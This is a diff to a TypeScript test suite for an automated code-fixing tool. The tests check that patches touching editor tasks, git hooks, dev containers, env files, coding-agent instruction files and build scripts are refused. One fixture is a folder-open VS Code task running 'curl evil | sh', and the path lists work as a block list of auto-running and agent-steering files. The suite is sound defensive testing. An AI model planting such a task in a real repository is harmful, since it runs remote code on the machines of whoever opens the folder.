@@ -74,9 +74,10 @@ test("every workspace file is refused by the patch engine and the commit check, 
   for (const path of paths) {
     const verdict = checkEditablePath(path, config.protectedPaths);
     assert.equal(verdict.ok, false, `${path} is editable`);
+    // Each refusal names what the file is and does: `<path> is ...: ...; patches may not change it.`
     assert.match(
       verdict.ok ? "" : verdict.message,
-      /runs code on the machines of those who check the branch out or open it/,
+      /^\S+ is (a coding agent's|a git hook|a dev container|an editor's|loaded into the shell|git's attributes|a package manager's)[^;]*: [^;]*(run|steers|decides|applies)[^;]*; patches may not change it\./,
       `${path}: ${verdict.ok ? "" : verdict.message}`,
     );
     const repo = createMemoryRepo({ [path]: "v = 1\n", "src/app.py": "v = 1\n" });
@@ -120,7 +121,152 @@ test("the app refuses to apply a patch to .vscode/tasks.json; an ordinary patch 
     '+{"tasks":[{"label":"x","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}',
     "",
   ].join("\n");
-  await assert.rejects(applyPatch(dir, evil), /refusing the patch: \.vscode\/tasks\.json runs code/);
+  await assert.rejects(
+    applyPatch(dir, evil),
+    /refusing the patch: \.vscode\/tasks\.json is an editor's task, launch or settings file: its commands run when the folder is opened; patches may not change it/,
+  );
   await applyPatch(dir, diffFor("app.py"));
   assert.equal(readFileSync(join(dir, "app.py"), "utf8"), "v = 2\n");
+});
+
+/** Other spellings of the same files: case (macOS and Windows checkouts fold it), depth, tool variants. */
+const SPELLINGS: Record<string, RegExp> = {
+  ".VSCode/tasks.json":
+    /is an editor's task, launch or settings file: its commands run when the folder is opened/,
+  "pkg/.vscode/settings.json": /is an editor's task/,
+  "sub/.idea/workspace.xml": /is an editor's task/,
+  ".IDEA/runConfigurations/x.xml": /is an editor's task/,
+  "apps/web/app.Code-Workspace": /is an editor's task/,
+  ".Husky/pre-commit":
+    /is a git hook or a hook manager's configuration: its commands run when someone commits/,
+  "frontend/.husky/pre-push": /is a git hook/,
+  ".GitAttributes": /is git's attributes or LFS setting/,
+  ".Envrc": /is loaded into the shell on `cd` into its folder/,
+  ".ENV.local": /is loaded into the shell/,
+  ".DevContainer/devcontainer.json": /is a dev container or cloud workspace setting/,
+  "sub/.devcontainer/post-create.sh": /is a dev container/,
+  "mise/config.toml": /is loaded into the shell/,
+  ".mise.local.toml": /is loaded into the shell/,
+  ".mise.ci.toml": /is loaded into the shell/,
+  "mise.dev.toml": /is loaded into the shell/,
+  "svc/.config/mise/config.toml": /is loaded into the shell/,
+  ".config/mise/conf.d/x.toml": /is loaded into the shell/,
+  ".tool-versions": /is loaded into the shell/,
+  ".claude/settings.json":
+    /is a coding agent's settings or instruction file: it steers the next agent that opens the branch/,
+  "pkg/.claude/commands/x.md": /is a coding agent's/,
+  "CLAUDE.md": /is a coding agent's/,
+  "Claude.md": /is a coding agent's/,
+  "sub/CLAUDE.local.md": /is a coding agent's/,
+  "AGENTS.md": /is a coding agent's/,
+  "services/api/AGENTS.md": /is a coding agent's/,
+  "AGENT.md": /is a coding agent's/,
+  // On a case-folding checkout this is the folder's AGENTS.md, which agents read there.
+  "docs/agents.md": /is a coding agent's/,
+  ".cursorrules": /is a coding agent's/,
+  ".cursor/rules/x.mdc": /is a coding agent's/,
+  ".github/copilot-instructions.md": /is a coding agent's/,
+  ".github/instructions/py.instructions.md": /is a coding agent's/,
+  ".windsurfrules": /is a coding agent's/,
+  ".clinerules": /is a coding agent's/,
+  ".clinerules/01-style.md": /is a coding agent's/,
+  ".aider.conf.yml": /is a coding agent's/,
+  ".aiderignore": /is a coding agent's/,
+  "GEMINI.md": /is a coding agent's/,
+  ".gemini/settings.json": /is a coding agent's/,
+  ".continue/config.json": /is a coding agent's/,
+  ".codex/config.toml": /is a coding agent's/,
+  ".mcp.json": /is a coding agent's/,
+  "crates/x/.cargo/config.toml": /is a package manager's hook/,
+};
+
+test("other spellings of workspace and agent files are refused, each with what it is and does", async () => {
+  const config = parseRepoConfig("");
+  for (const [path, why] of Object.entries(SPELLINGS)) {
+    const verdict = checkEditablePath(path, config.protectedPaths);
+    assert.equal(verdict.ok, false, `${path} is editable`);
+    const message = verdict.ok ? "" : verdict.message;
+    assert.ok(message.startsWith(`${path} is `), message);
+    assert.match(message, why, message);
+    assert.match(message, /; patches may not change it\. Fix the bug in the source code instead\.$/, message);
+    // The app's last look before a commit refuses it as well, configuration or not.
+    assert.equal(forbiddenPatchPath(diffFor(path)), message, path);
+    const repo = createMemoryRepo({ [path]: "v = 1\n", "src/app.py": "v = 1\n" });
+    const r = await computePatch(
+      repo,
+      `<file>${path}</file>\n<original>\nv = 1\n</original>\n<patched>\nv = 2\n</patched>`,
+      { protectedGlobs: config.protectedPaths },
+    );
+    assert.equal(r.status, "RAW_PATCH_BUT_UNSAFE_PATH", `${path}: ${r.status}`);
+  }
+});
+
+const BUILD_SCRIPTS = [
+  "build.rs",
+  "crates/core/build.rs",
+  "Build.rs",
+  "settings.gradle",
+  "settings.gradle.kts",
+  "build.gradle",
+  "app/build.gradle.kts",
+  "gradle/libs.gradle",
+  "buildSrc/src/main/kotlin/conventions.gradle.kts",
+  "buildSrc/src/main/java/Plugin.java",
+  "setup.py",
+  "pkg/setup.py",
+];
+
+test("build scripts are refused unless the repository allows them, and say how to allow them", () => {
+  const strict = parseRepoConfig("");
+  const allowing = parseRepoConfig("build-scripts: editable\n");
+  for (const path of BUILD_SCRIPTS) {
+    const verdict = checkEditablePath(path, strict.protectedPaths);
+    assert.equal(verdict.ok, false, `${path} is editable`);
+    assert.match(
+      verdict.ok ? "" : verdict.message,
+      /is a build script that runs on every build or install .*: a fix rarely needs it, so patches may not change it unless the repository allows it \(`build-scripts: editable` in \.github\/auto-fix\.yml\)/,
+      path,
+    );
+    assert.deepEqual(checkEditablePath(path, allowing.protectedPaths), { ok: true }, path);
+  }
+  // The wrapper stays refused whatever the setting: it runs the tests.
+  assert.equal(checkEditablePath("gradlew", allowing.protectedPaths).ok, false);
+  assert.equal(
+    checkEditablePath("gradle/wrapper/gradle-wrapper.properties", allowing.protectedPaths).ok,
+    false,
+  );
+  assert.throws(
+    () => parseRepoConfig("build-scripts: yes\n"),
+    /build-scripts.*expected protected or editable/s,
+  );
+});
+
+test("ordinary source named like protected files stays editable", () => {
+  const config = parseRepoConfig("");
+  for (const path of [
+    "src/claude.py",
+    "src/agents.py",
+    "lib/agents/runner.py",
+    "docs/agents-guide.md",
+    "docs/claude-setup.md",
+    "src/cursor.ts",
+    "src/gemini_client.py",
+    "lib/build.rs.txt",
+    "src/build_rs.py",
+    "src/builder.rs",
+    "src/settings_gradle.py",
+    "docs/gradle.md",
+    "src/setup_py.py",
+    "src/setup.pyi",
+    "setup.cfg",
+    "src/mise.py",
+    "src/env.py",
+    "src/idea/model.py",
+    "src/vscode_ext.ts",
+    "src/husky.js",
+    "src/aider.py",
+    "docs/devcontainer.md",
+  ]) {
+    assert.deepEqual(checkEditablePath(path, config.protectedPaths), { ok: true }, path);
+  }
 });
